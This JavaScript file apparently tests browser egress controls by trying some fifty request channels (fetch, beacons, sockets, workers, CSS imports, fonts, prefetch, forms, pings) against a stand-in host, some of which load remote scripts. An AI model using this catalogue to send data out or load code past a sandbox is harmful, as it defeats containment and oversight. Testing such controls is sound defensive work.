const O = "http://outside.example/s", tried = [];
const ways = {
  fetch: () => fetch(O + "1"), "no-cors": () => fetch(O + "2", { mode: "no-cors", keepalive: true }),
  post: () => fetch(O + "3", { method: "POST", body: "x" }), request: () => fetch(new Request(O + "4", { method: "PUT", body: "y" })),
  xhr: () => { const x = new XMLHttpRequest(); x.open("GET", O + "5"); x.send(); },
  sync: () => { const x = new XMLHttpRequest(); x.open("POST", O + "6", false); x.send("z"); },
  beacon: () => navigator.sendBeacon(O + "7", "x"), later: () => fetchLater(O + "8"),
  socket: () => new WebSocket("ws://outside.example/s9"), events: () => new EventSource(O + "10"),
  transport: () => new WebTransport("https://outside.example/s11"),
  rtc: () => new RTCPeerConnection({ iceServers: [{ urls: "stun:outside.example" }] }).createDataChannel("x"),
  worker: () => new Worker(O + "12"), shared: () => new SharedWorker(O + "13"),
  inside: () => new Worker(URL.createObjectURL(new Blob(["fetch('" + O + "14'); importScripts('" + O + "15')"]))),
  service: () => navigator.serviceWorker.register(O + "16"), open: () => window.open(O + "17"),
  module: () => import(O + "18"), image: () => { new Image().src = O + "19"; }, audio: () => new Audio(O + "20").play(),
  write: () => document.body.insertAdjacentHTML("beforeend", "<img src=" + O + "21><iframe src=" + O + "22></iframe>"),
  attribute: () => { const i = document.createElement("img"); i.setAttribute("src", O + "23"); document.body.append(i); },
  node: () => { const a = document.createAttribute("src"); a.value = O + "24";
    const i = document.createElement("img"); i.setAttributeNode(a); document.body.append(i); },
  style: () => { document.body.style.backgroundImage = "url(" + O + "25)"; },
  property: () => document.body.style.setProperty("border-image-source", "url(" + O + "26)"),
  text: () => { document.body.style.cssText = "background: url(" + O + "27)"; },
  rule: () => { const s = document.createElement("style"); document.head.append(s); s.sheet.insertRule("p{background:url(" + O + "28)}"); },
  sheet: () => { const s = document.createElement("style"); s.textContent = "@import '" + O + "29';"; document.head.append(s); },
  adopted: () => { const s = new CSSStyleSheet(); s.replaceSync("p{background:url(" + O + "30)}"); document.adoptedStyleSheets = [s]; },
  font: () => new FontFace("z", "url(" + O + "31)").load(),
  link: () => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = O + "32"; document.head.append(l); },
  preload: () => document.head.insertAdjacentHTML("beforeend", "<link rel=preload as=script href=" + O + "33>"),
  speculate: () => { const s = document.createElement("script"); s.type = "speculationrules";
    s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [O + "34"] }] }); document.head.append(s); },
  shadow: () => { document.createElement("div"); const d = document.body.appendChild(document.createElement("div"));
    d.attachShadow({ mode: "closed" }).innerHTML = "<img src=" + O + "35><style>@import '" + O + "36'</style>"; },
  parsed: () => document.body.append(...new DOMParser().parseFromString("<img src=" + O + "37>", "text/html").body.childNodes),
  range: () => document.body.append(document.createRange().createContextualFragment("<img src=" + O + "38><script src=" + O + "39></" + "script>")),
  frame: () => { const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.location = O + "40"; },
  form: () => { const f = document.createElement("form"); f.action = O + "41"; f.target = "t"; f.method = "post";
    document.body.insertAdjacentHTML("beforeend", "<iframe name=t></iframe>"); document.body.append(f); f.submit(); },
  click: () => { const a = document.createElement("a"); a.href = O + "42"; a.ping = O + "43"; a.target = "t"; document.body.append(a); a.click(); },
  svg: () => { const u = document.createElementNS("http://www.w3.org/2000/svg", "image"); u.setAttributeNS("http://www.w3.org/1999/xlink", "href", O + "44");
    document.querySelector("svg").append(u); },
  icon: () => new Notification("x", { icon: O + "45" }), cookie: () => { document.cookie = "a=1; domain=outside.example"; },
  handler: () => navigator.registerProtocolHandler("web+x", O + "46?%s"), credentials: () => navigator.credentials.get({ password: true }),
  payment: () => new PaymentRequest([{ supportedMethods: O + "47" }], { total: { label: "x", amount: { currency: "CNY", value: "1" } } }).show(),
  cache: async () => (await caches.open("x")).add(O + "48"), audioworklet: () => new AudioContext().audioWorklet.addModule(O + "49"),
  paint: () => CSS.paintWorklet.addModule(O + "50"), video: () => { const v = document.createElement("video"); v.poster = O + "51"; v.src = O + "52"; document.body.append(v); },
  history: () => history.pushState({}, "", O + "53"), target: () => navigation.navigate(O + "54"),
};
(async () => {
  for (const [name, way] of Object.entries(ways)) {
    try { await Promise.race([way(), new Promise((yes) => setTimeout(yes, 30))]); } catch { /* refused */ }
    tried.push(name);
  }
  console.log("tried " + tried.length + " of " + Object.keys(ways).length);
})();
